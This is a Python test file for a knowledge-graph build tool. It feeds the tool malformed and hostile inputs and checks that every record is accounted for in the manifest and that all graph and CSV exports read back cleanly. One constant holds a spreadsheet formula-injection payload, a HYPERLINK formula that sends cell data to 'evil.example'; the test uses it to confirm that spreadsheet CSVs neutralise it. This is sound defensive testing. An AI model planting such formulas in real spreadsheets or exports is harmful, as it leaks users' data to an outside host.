"""A corpus of bad inputs through `kg build`: every record is accounted for in the manifest."""

import json

from click.testing import CliRunner

from kg.cli import main

GOOD = "We propose Zorbnet, a novel framework for node classification, evaluated on MNIST."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'


def write_bad_corpus(root):
    root.mkdir()
    (root / "empty.txt").write_bytes(b"")
    (root / "binary.jsonl").write_bytes(b"\x00\x01\x02PK\x03\x04" * 50)
    (root / "latin1.txt").write_bytes("ICLR 2024 Papers\n\nWe propose Caf\xe9Net, a model for r\xe9sum\xe9 parsing.\n".encode("latin-1"))
    (root / "utf16.txt").write_bytes("NeurIPS 2023 Papers\n\nWe introduce Zebrafy, a benchmark.\n".encode("utf-16"))
    (root / "broken.jsonl").write_text(
        json.dumps({"abstract": GOOD}) + "\n{not json\n" + json.dumps({"title": "no abstract"}) + "\n"
        + json.dumps({"abstract": "   \t "}) + "\n" + json.dumps({"abstract": GOOD}) + "\n",
        encoding="utf-8",
    )
    (root / "missing.csv").write_text(
        "title,abstract,year\nA,We use GPT-4o on GSM8K.,2024\nB\nC,,2023\n", encoding="utf-8"
    )
    (root / "broken.bib").write_text(
        "@article{ok, title={T}, abstract={We present Quorbit, a dataset of graphs.}, year={2022}}\n"
        "@article{noabstract, title={Only a title}}\n"
        "@article{broken, title={Unclosed, abstract={x}\n",
        encoding="utf-8",
    )
    huge = ("We propose Megaform, a method. " + "word " * 200_000).strip()
    weird = ("Control\x07chars\x1b[31m and CJK 模型 and Arabic نموذج with $\\times$ **B**old "
             "\\textbf{X} \\url{https://github.com/a/b} text.")
    (root / "odd.jsonl").write_text(
        json.dumps({"abstract": huge}) + "\n" + json.dumps({"abstract": weird}) + "\n", encoding="utf-8"
    )
    # issue 17: records that once stalled or stopped a build, or were lost or broke an output
    deep = '{"abstract": "We propose Deepnet.", "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    (root / "hostile.jsonl").write_text(
        json.dumps({"abstract": "We propose Formfeednet\u000c, a model for page\u0007 layout.",
                    "venue": "ICLR\u000b2024", "title": "Bell\u0007 title"}) + "\n"
        + deep + "\n"
        + '{"abstract": "We propose \\ud800Net, a model."}\n'
        + '{"abstract": "We propose Nulnet\\u0000, a model."}\n'
        + json.dumps({"abstract": "We propose Longidnet, evaluated on MNIST.", "doi": "10.1234/" + "x" * 5000,
                      "venue": "Workshop " * 600}) + "\n",
        encoding="utf-8",
    )
    elements = [json.dumps({"abstract": f"We propose Minifiednet{i}, a model for graphs."}) for i in range(41)]
    elements[1] = '{"abstract": "broken" "title": 1}'
    (root / "minified.json").write_text("[" + ",".join(elements) + "]", encoding="utf-8")
    paragraphs = [f"We propose Listednet{i}, a method evaluated on CIFAR-10." for i in range(100)]
    paragraphs[3] = paragraphs[3].replace("method", "met\x00hod")
    (root / "nul.txt").write_text("ICLR 2024 Papers\n\n" + "\n\n".join(paragraphs) + "\n", encoding="utf-8")
    words = "we evaluate our method on MNIST and CIFAR-10 in terms of accuracy and F1 score with BERT "
    (root / "formula.jsonl").write_text(json.dumps({
        "abstract": "We propose Formulanet, a model for tables.", "venue": FORMULA, "title": "@SUM(1+1)"}) + "\n",
        encoding="utf-8")
    (root / "runon.jsonl").write_text(json.dumps({"abstract": (words * 1200)[:100_000]}) + "\n", encoding="utf-8")
    # issue 14: files that were misread or never listed
    (root / "records.txt").write_text("".join(json.dumps({"title": f"T{i}", "abstract": f"We propose Txtnet{i}."})
                                              + "\n" for i in range(3)), encoding="utf-8")
    (root / "SOURCE.md").write_text("# Source\n\n" + "Where these abstracts come from.\n\n" * 14, encoding="utf-8")
    (root / "README").write_text("Notes for people, not abstracts.\n", encoding="utf-8")
    (root / "dump.bin").write_bytes(b"\x00\x01" * 100)
    (root / "fields.jsonl").write_text(json.dumps({"name": "Wrongfield", "desc": "We propose Descnet."}) + "\n",
                                       encoding="utf-8")


def test_every_bad_record_is_accounted_for(tmp_path):
    write_bad_corpus(tmp_path / "in")
    result = CliRunner().invoke(main, ["build", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "-q"])
    assert result.exit_code == 3, result.output  # done, with records skipped
    manifest = [json.loads(line) for line in (tmp_path / "out" / "manifest.jsonl").read_text("utf-8").splitlines()]
    by_file = {}
    for row in manifest:
        by_file.setdefault(row["source"]["path"].rsplit("/", 1)[-1], []).append(row["outcome"])
    assert by_file["empty.txt"] == ["skipped"]
    assert by_file["binary.jsonl"] == ["skipped"]
    assert by_file["latin1.txt"] == ["built"] and by_file["utf16.txt"] == ["built"]
    assert by_file["broken.jsonl"] == ["built", "skipped", "skipped", "skipped", "duplicate"]
    assert by_file["missing.csv"] == ["built", "skipped", "skipped"]
    assert by_file["broken.bib"].count("built") == 1 and "skipped" in by_file["broken.bib"]
    assert by_file["odd.jsonl"] == ["built", "built"]
    assert by_file["hostile.jsonl"] == ["built", "skipped", "skipped", "skipped", "built"]
    assert by_file["minified.json"] == ["built", "skipped"] + ["built"] * 39
    assert by_file["nul.txt"] == ["built"] * 3 + ["skipped"] + ["built"] * 96
    assert by_file["runon.jsonl"] == ["built"]
    assert by_file["formula.jsonl"] == ["built"]  # a 100k-character run-on abstract, within the time budget
    assert by_file["records.txt"] == ["read", "built", "built", "built"]  # JSON Lines in a .txt
    assert by_file["SOURCE.md"] == by_file["README"] == by_file["dump.bin"] == ["ignored"]
    assert by_file["fields.jsonl"] == ["skipped"]
    assert {path.name for path in (tmp_path / "in").iterdir()} == set(by_file)  # every file is in the manifest
    reasons = {row["reason"] for row in manifest if row["outcome"] == "skipped"}
    assert {"invalid JSON: nested too deeply to read", "lone surrogate \\ud800 in the abstract: not valid Unicode",
            "NUL character in the abstract: binary data, not text"} <= reasons
    assert any("extracted from the first" in (row["reason"] or "") for row in manifest)
    for row in manifest:
        if row["outcome"] in ("skipped", "ignored", "read"):
            assert row["reason"] and row["source"]["path"]
    assert any(row["reason"].startswith("no abstract (no field abstract, summary") for row in manifest
               if row["source"]["path"].endswith("fields.jsonl"))
    papers = [json.loads(line) for line in (tmp_path / "out" / "papers.jsonl").read_text("utf-8").splitlines()]
    assert len(papers) == sum(row["outcome"] == "built" for row in manifest)
    names = {e["name"] for p in papers for e in p["entities"]}
    assert {"CaféNet", "Zebrafy", "Megaform", "Quorbit"} <= names
    for paper in papers:
        for entity in paper["entities"]:
            for m in entity["mentions"]:
                assert paper["abstract"][m["start"]:m["end"]] == m["text"]
    summary = json.loads((tmp_path / "out" / "summary.json").read_text("utf-8"))
    assert summary["papers_built"] == len(papers) and len(summary["skipped"]) == by_file_count(by_file, "skipped")
    # every graph file reads back, whatever the records held
    import xml.etree.ElementTree as ET

    import networkx as nx
    import rdflib

    ET.parse(tmp_path / "out" / "graph.graphml")
    graph = nx.read_graphml(tmp_path / "out" / "graph.graphml", force_multigraph=True)
    assert graph.number_of_nodes() == len(json.loads((tmp_path / "out" / "graph.json").read_text("utf-8"))["nodes"])
    assert max(len(node) for node in graph) <= 256  # long ids hashed to a bounded length
    rdflib.Graph().parse(tmp_path / "out" / "graph.ttl")
    from kg.analyse import write_gexf
    from kg.export.files import read_graph

    gexf = write_gexf(read_graph(tmp_path / "out"), tmp_path / "graph.gexf")
    ET.parse(gexf)
    assert nx.read_gexf(gexf).number_of_nodes() == graph.number_of_nodes()
    # CSVs: neo4j-admin's bulk files keep the real values (a leading apostrophe would be imported
    # as part of the name); tables for spreadsheets neutralise them (kg.export.tables.write_csv)
    import csv

    from kg.export.tables import write_csv
    from kg.export.neo4j_bulk import write_bulk_csv

    write_bulk_csv(read_graph(tmp_path / "out"), tmp_path / "bulk")
    with open(tmp_path / "bulk" / "nodes_Venue.csv", newline="", encoding="utf-8") as handle:
        assert FORMULA in {row["name"] for row in csv.DictReader(handle)}
    venues = [(d["name"], d["label"]) for _, d in read_graph(tmp_path / "out").nodes(data=True) if d["label"] == "Venue"]
    with open(write_csv(tmp_path / "venues.csv", ["name", "type"], venues), newline="", encoding="utf-8") as handle:
        assert "'" + FORMULA in {row["name"] for row in csv.DictReader(handle)}


def by_file_count(by_file, outcome):
    return sum(outcomes.count(outcome) for outcomes in by_file.values())


def test_formula_like_values_reach_neo4j_through_neo4j_admin_as_they_are(tmp_path):
    """The bulk CSVs are for neo4j-admin, not spreadsheets: a venue `=HYPERLINK(...)`, a title
    `@SUM(1+1)` and an author `-Doe` are imported by the real `neo4j-admin database import full`
    as written (an apostrophe in front, right for spreadsheets, would be imported with them)."""
    from neo4j_server import Neo4jServer

    from kg.build import build
    from kg.export.neo4j_bulk import write_bulk_csv

    source = tmp_path / "in.jsonl"
    record = {"abstract": "We propose Formulanet, a model for tables.", "venue": FORMULA, "title": "@SUM(1+1)",
              "authors": ["-Doe", "+Roe"]}
    source.write_text(json.dumps(record) + "\n", encoding="utf-8")
    report = build([source], tmp_path / "out", cache=False)
    files = write_bulk_csv(report.graph, tmp_path / "bulk")
    server = Neo4jServer(tmp_path / "home", heap="512m")
    done = server.admin(*files.command()[1:])
    assert "IMPORT DONE" in done.stdout + done.stderr
    with server:
        records = server.driver().execute_query(
            "MATCH (p:Paper)-[:PUBLISHED_IN]->(v:Venue) RETURN p.title AS title, p.authors AS authors, v.name AS venue"
        ).records
    assert [(r["title"], r["authors"], r["venue"]) for r in records] == [("@SUM(1+1)", ["-Doe", "+Roe"], FORMULA)]
